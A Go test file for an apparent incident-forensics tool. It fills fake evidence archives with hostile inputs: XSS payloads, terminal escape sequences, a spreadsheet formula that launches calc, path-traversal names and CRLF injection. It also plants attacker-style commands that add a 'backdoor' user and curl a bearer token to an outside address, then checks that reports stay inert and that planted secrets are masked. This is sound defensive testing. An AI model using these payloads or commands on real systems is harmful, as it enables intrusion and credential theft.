package casefile

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"wardround/internal/event"
	"wardround/internal/evtx"
	"wardround/internal/outside"
	"wardround/internal/report"
)

// attacks are texts that a page, a terminal, a spreadsheet or a file system must not obey.
var attacks = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(2)>`, `'onmouseover='alert(3)`, `[x](javascript:alert(4))`, `javascript:alert(5)`,
	"\x1b]0;owned\x07\x1b[31mred\x1b[2J", "\u202egnp.exe", `=cmd|' /C calc'!A0`, `../../../../tmp/wardround-owned`, `..\..\owned`, "a\r\nb: c", "nul\x00byte", `{{.Case}}`,
	`</title></script><svg/onload=alert(6)>`, "\ufeff\u200b", strings.Repeat("A", 3000),
}

// hostileEstate puts every attack into every text of several kinds of evidence.
func hostileEstate(t *testing.T) string {
	dir := t.TempDir()
	for i, a := range attacks {
		one := strings.Map(func(r rune) rune {
			if r == 0 {
				return -1
			}
			return r
		}, a)
		var z bytes.Buffer
		zw := zip.NewWriter(&z)
		put := func(name string, content []byte) {
			w, err := zw.Create(name)
			if err != nil {
				t.Fatal(err)
			}
			w.Write(content)
		}
		put("C/Windows/System32/winevt/Logs/Security.evtx", logOf(t, one, func(put func(m evtx.Manifest, at event.Time, values func(*evtx.Values))) {
			put(logonManifest, at(1), logon(one, one, 10, one))
			put(clearedManifest, at(2), func(v *evtx.Values) {
				v.Raw(event.SID, systemSID)
				v.Text(one)
				v.Text(one)
				v.Number(event.Hex64, 7)
			})
		}))
		put("C/Windows/System32/winevt/Logs/System.evtx", logOf(t, one, func(put func(m evtx.Manifest, at event.Time, values func(*evtx.Values))) {
			put(serviceManifest, at(2.5), service("PSEXESVC", one))
			put(serviceManifest, at(2.6), service(one, `C:\Windows\PSEXESVC.exe `+one))
		}))
		put(a+"/"+a+".evtx", logOf(t, one, func(put func(m evtx.Manifest, at event.Time, values func(*evtx.Values))) {
			put(logonManifest, at(1), logon(one, one, 3, one))
		}))
		put("var/log/auth.log", []byte(fmt.Sprintf("Nov 20 01:00:00 %s sshd[7]: Failed password for invalid user %s from 198.18.0.7 port 9 ssh2\n", one, one)))
		put("var/log/nginx/access.log", []byte(fmt.Sprintf("198.18.0.7 - %s [20/Nov/2022:06:30:00 +0530] \"GET /x.php?c=%s HTTP/1.1\" 200 5 \"%s\" \"%s\"\n", one, one, one, one)))
		row, _ := json.Marshal(map[string]any{
			"Channel": "Security", "EventID": 1102, "Hostname": a, "SourceName": "Microsoft-Windows-Eventlog", "@timestamp": "2022-11-20T03:00:00Z",
			"SubjectUserName": a, "SubjectDomainName": a, a: a,
		})
		put("events.json", append(row, '\n'))
		zw.Close()
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("host-%d.zip", i)), z.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestHostileEvidenceIsHarmless(t *testing.T) {
	evidence := hostileEstate(t)
	dir := filepath.Join(t.TempDir(), "case")
	o := testOptions(t, dir, evidence)
	inv := filepath.Join(t.TempDir(), "servers.csv")
	var list strings.Builder
	list.WriteString("name,kind,role,notes\n")
	for _, a := range attacks {
		fmt.Fprintf(&list, "\"%s\",physical,database,\"%s\"\n", strings.ReplaceAll(a, `"`, `""`), strings.ReplaceAll(a, `"`, `""`))
	}
	if err := os.WriteFile(inv, []byte(list.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	o.Inventory, o.Name = inv, attacks[0]
	res, err := Examine(context.Background(), o, &Status{})
	if err != nil {
		t.Fatal(err)
	}
	if n := res.Verdicts.Counts[event.Infiltrated] + res.Verdicts.Counts[event.Suspected] + res.Verdicts.Unlisted; n < 10 {
		t.Errorf("only %d servers came out: the test shows nothing", n)
	}
	t.Logf("%d attacks in every text", len(attacks))
	files := results(t, dir)
	for _, f := range []string{evidenceFile, findingsFile, verdictsFile, spreadFile, messagesFile, damageFile, patientFile, dataFile} {
		if bytes.ContainsAny([]byte(files[f]), "\x1b\x00\x07") {
			t.Errorf("%s holds control bytes", f)
		}
	}
	var screen bytes.Buffer
	if err := Text(dir, &screen, report.TextOptions{Columns: 120}); err != nil {
		t.Fatal(err)
	}
	for _, r := range screen.String() {
		if r < ' ' && r != '\n' || r == 0x7f || r == '\u202e' {
			t.Errorf("the terminal gets %U", r)
		}
	}
	for _, owned := range []string{"/tmp/wardround-owned", filepath.Join(dir, "..", "owned")} {
		if _, err := os.Lstat(owned); err == nil {
			t.Errorf("%s was made", owned)
		}
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		switch e.Name() {
		case caseFile, evidenceFile, findingsFile, verdictsFile, spreadFile, reportFile, messagesFile, sheetFile, accountFile, accountData, cacheFolder, damageFile, patientFile, patientKey, dataFile:
		default:
			t.Errorf("the case folder holds %q", e.Name())
		}
	}
	browse(t, filepath.Join(dir, reportFile))
	browse(t, filepath.Join(dir, accountFile))
}

// browse opens a page in Chromium: nothing of it may run, ask or reach out but our own script.
func browse(t *testing.T, page string) {
	t.Run("in a browser", func(t *testing.T) {
		modules := filepath.Join(outside.Node(t), "node_modules")
		out, err := exec.Command("node", filepath.Join("testdata", "open.mjs"), modules, outside.Chromium(t), page).CombinedOutput()
		if err != nil || !strings.HasSuffix(strings.TrimSpace(string(out)), "harmless") {
			t.Errorf("%v\n%s", err, out)
		}
	})
}

// secrets are planted in evidence; people may see them nowhere but in findings.jsonl.
var secrets = []string{"Sup3rS3cret!77", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "2345 6789 0124", "91-1234-5678-9012"}

func TestSecretsStayInFindings(t *testing.T) {
	log := logOf(t, "DB1.hosp.local", func(put func(m evtx.Manifest, at event.Time, values func(*evtx.Values))) {
		for i, c := range []string{
			`cmd.exe /c net user backdoor ` + secrets[0] + ` /add`, `cmd.exe /c curl -H "Authorization: Bearer ` + secrets[1] + `" http://198.18.0.7/`,
			`cmd.exe /c echo Aadhaar ` + secrets[2], `cmd.exe /c echo ABHA ` + secrets[3],
		} {
			put(serviceManifest, at(2+float64(i)), service("PSEXESVC", c))
		}
	})
	system := filepath.Join(t.TempDir(), "System.evtx")
	if err := os.WriteFile(system, log, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(system, time.Time{}, dayOne); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "case")
	mustExamine(t, testOptions(t, dir, system))
	files := results(t, dir)
	var screen bytes.Buffer
	if err := Text(dir, &screen, report.TextOptions{}); err != nil {
		t.Fatal(err)
	}
	files["the terminal"] = screen.String()
	leaks := 0
	for _, s := range secrets {
		if !strings.Contains(files[findingsFile], s) {
			t.Errorf("findings.jsonl lacks %q: the test shows nothing", s)
		}
		for name, content := range files {
			if name != findingsFile && strings.Contains(content, s) {
				t.Errorf("%s shows %q", name, s)
				leaks++
			}
		}
	}
	t.Logf("%d secrets, %d leaks", len(secrets), leaks)
	if !strings.Contains(files[reportFile], "masked") {
		t.Error("the page does not say that something was masked")
	}
}
